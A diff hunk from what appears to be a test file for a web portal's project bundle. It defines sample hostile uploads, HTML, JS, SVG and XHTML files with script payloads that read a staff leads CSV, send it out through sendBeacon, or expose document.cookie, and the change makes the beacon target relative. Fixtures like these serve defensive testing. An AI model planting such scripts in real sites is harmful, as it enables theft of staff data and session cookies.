@@ -17,7 +17,7 @@ PORTAL = os.path.join(os.path.dirname(sys.executable), "portal")
 BUNDLE = "projects/tea-processing"
 HOSTILE = {
     "evil.html": "<!doctype html><script>fetch('/staff/leads/leads.csv')</script>",
-    "evil.js": "fetch('/staff/leads/leads.csv').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))",
+    "evil.js": "fetch('/staff/leads/leads.csv').then(r => r.text()).then(t => navigator.sendBeacon('/x', t))",
     "evil.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
     "evil.xml": '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
 }
